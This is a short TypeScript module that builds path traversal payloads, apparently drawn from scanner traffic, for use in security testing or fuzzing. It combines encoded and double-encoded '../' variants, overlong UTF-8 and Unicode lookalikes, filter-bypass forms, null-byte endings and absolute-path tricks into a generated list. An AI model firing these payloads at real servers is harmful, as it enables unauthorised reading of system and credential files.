/** Path traversal payloads, collected from requests of scanners. */

const ups = [
  "../",
  "..\\",
  "%2e%2e/",
  "%2e%2e%2f",
  "%2E%2E%2F",
  "..%2f",
  ".%2e/",
  "..%5c",
  "%2e%2e%5c",
  // Encoded twice and three times.
  "%252e%252e%252f",
  "..%252f",
  "..%255c",
  "%25252e%25252e%25252f",
  // Overlong UTF-8 and other legacy encodings.
  "..%c0%af",
  "%c0%ae%c0%ae%c0%af",
  "..%c1%9c",
  "%e0%80%ae%e0%80%ae%e0%80%af",
  "%u002e%u002e%u2215",
  // Unicode characters that normalize to dots and slashes.
  "%ef%bc%8e%ef%bc%8e%ef%bc%8f",
  "..%e2%88%95",
  "..%ef%b9%a8",
  "\xef\xbc\x8e\xef\xbc\x8e/",
  // Payloads that become valid after a naive filter.
  "....//",
  "..././",
  "....\\\\",
  "..;/",
  "..%00/",
  "..%0d%0a/",
  "..%20/",
  "..%09/",
  "./.././",
];
const depths = [1, 3, 9];
const endings = ["", "%00", "%00.zip", "%0a", "?", "#", ";.zip"];

const absolutes = (path: string) => [
  path,
  `/${path}`,
  `//localhost${path}`,
  encodeURIComponent(path),
  encodeURIComponent(encodeURIComponent(path)),
  path.replaceAll("/", "\\"),
  path.replaceAll("/", "%5c"),
  `file://${path}`,
  `file:%2f%2f${encodeURIComponent(path)}`,
  `C:${path.replaceAll("/", "\\")}`,
  `\\\\localhost${path.replaceAll("/", "\\")}`,
  `~root${path}`,
  `.${path}`,
  `%00${path}`,
];

/** All payloads for these absolute paths, without duplicates. */
export function traversals(paths: readonly string[]): string[] {
  const [first = "", ...others] = paths;
  const climbs = ups.flatMap((up) =>
    depths.flatMap((depth) => [
      ...endings.map((ending) => up.repeat(depth) + first.slice(1) + ending),
      ...others.map((path) => up.repeat(depth) + path.slice(1)),
    ]),
  );
  return [...new Set([...climbs, ...paths.flatMap(absolutes)])];
}
